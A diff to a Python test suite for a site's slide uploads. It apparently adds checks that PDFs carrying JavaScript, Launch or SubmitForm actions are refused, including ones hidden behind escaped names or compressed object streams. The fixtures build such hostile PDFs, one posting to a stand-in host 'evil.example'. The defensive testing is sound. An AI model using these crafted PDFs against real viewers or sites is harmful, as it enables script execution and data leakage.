@@ -322,7 +322,112 @@ def test_uploads_are_served_so_that_a_browser_never_runs_them(poster, client, db
             policy = served.headers["Content-Security-Policy"]
             assert policy.startswith("default-src 'none'")
             assert ("sandbox" in policy) == (kind != "application/pdf")
-            assert served.headers["Content-Disposition"] == f'inline; filename="{name}"'
+            # Opened at its own address a PDF is saved, never shown (its scripts never run).
+            shown = "inline" if kind != "application/pdf" else "attachment"
+            assert served.headers["Content-Disposition"] == f'{shown}; filename="{name}"'
+    # Inside the talk page's viewer (<object data=...>) the slides show in place.
+    with client.get(talk.slides_url, headers={"Sec-Fetch-Dest": "object"}) as embedded:
+        assert embedded.headers["Content-Disposition"] == 'inline; filename="slides.pdf"'
+        assert "Sec-Fetch-Dest" in embedded.headers["Vary"]
+    for destination in ("document", "empty", ""):
+        with client.get(talk.slides_url, headers={"Sec-Fetch-Dest": destination}) as opened:
+            assert opened.headers["Content-Disposition"].startswith("attachment;")
+
+
+# ---------------------------------------------------------------- PDF actions
+
+
+def pdf_with_catalog(catalog: bytes, *objects: bytes) -> bytes:
+    """A one-page PDF whose catalog carries `catalog` (say an /OpenAction), objects from 5."""
+    box = b"1 0 0 rg 10 10 180 80 re f"
+    bodies = [
+        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R >>",
+        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(box), box),
+        *objects,
+    ]
+    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
+    offsets = []
+    for number, body in enumerate(bodies, 1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
+        len(bodies) + 1,
+        xref,
+    )
+    return out
+
+
+def object_stream(*dictionaries: bytes) -> bytes:
+    """A compressed object stream (PDF 1.5) holding the dictionaries as objects 6, 7, ..."""
+    header, body = b"", b""
+    for number, dictionary in enumerate(dictionaries, 6):
+        header += b"%d %d " % (number, len(body))
+        body += dictionary + b"\n"
+    packed = zlib.compress(header + body)
+    return (
+        b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
+        % (len(dictionaries), len(header), len(packed))
+        + packed
+        + b"\nendstream"
+    )
+
+
+PDF_WITH_ACTIONS = {
+    # The finding: an /OpenAction JavaScript action, run by Chromium's viewer on opening.
+    "open-action-js": pdf_with_catalog(
+        b"/OpenAction << /S /JavaScript /JS (app.alert\\(document.domain\\)) >>"
+    ),
+    "open-action-object": pdf_with_catalog(
+        b"/OpenAction 5 0 R",
+        b"<< /Type /Action /S /JavaScript /JS 6 0 R >>",
+        stream(b"app.alert(1)"),
+    ),
+    # Names written with #xx escapes mean the same to a reader.
+    "escaped-name": pdf_with_catalog(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
+    "names-tree": pdf_with_catalog(
+        b"/Names << /JavaScript << /Names [(a) 5 0 R] >> >>",
+        b"<< /S /JavaScript /JS (app.alert(1)) >>",
+    ),
+    "launch": pdf_with_catalog(b"/OpenAction << /S /Launch /F (calc.exe) >>"),
+    "page-action": pdf_with_catalog(b"/AA << /O << /S /JavaScript /JS (1) >> >>"),
+    "submit-form": pdf_with_catalog(b"/OpenAction << /S /SubmitForm /F (https://evil.example) >>"),
+    # Hidden in a compressed object stream, where a byte scan of the file sees nothing.
+    "in-object-stream": pdf_with_catalog(
+        b"/OpenAction 6 0 R", object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>")
+    ),
+}
+
+
+@pytest.mark.parametrize("content", PDF_WITH_ACTIONS.values(), ids=PDF_WITH_ACTIONS.keys())
+def test_a_pdf_with_a_script_or_launch_action_is_refused(poster, content):
+    message = refused_slides(poster, content)
+    assert "action, which could run a script or a program" in message
+    assert "Export the slides again as a plain PDF" in message
+
+
+def test_an_object_stream_the_check_cannot_read_is_refused(poster):
+    hidden = object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>").replace(
+        b"/FlateDecode", b"/ASCIIHexDecode"
+    )
+    message = refused_slides(poster, pdf_with_catalog(b"/OpenAction 6 0 R", hidden))
+    assert "in a form this site cannot check" in message
+
+
+@pytest.mark.parametrize("packed", [False, True], ids=["page-text", "page-text-and-object-stream"])
+def test_a_pdf_whose_text_merely_mentions_javascript_is_accepted(poster, db, packed):
+    # A security talk's page may show "/JavaScript": in a page's (compressed) content stream
+    # it is text, not an action; an object stream of harmless dictionaries is fine too.
+    text = b"BT /F1 12 Tf 10 50 Td (Why /JavaScript /JS /Launch in PDFs) Tj ET"
+    extra = [object_stream(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")]
+    content = pdf_with_catalog(b"", stream(zlib.compress(text)), *(extra if packed else []))
+    response = _post(poster, poster.series, slides_file=(content, "talk.pdf"))
+    assert response.status_code == 303, error_of(response.get_data(as_text=True), "slides_file")
+    poster.saved = True
 
 
 # ---------------------------------------------------------------- the speaker's own form
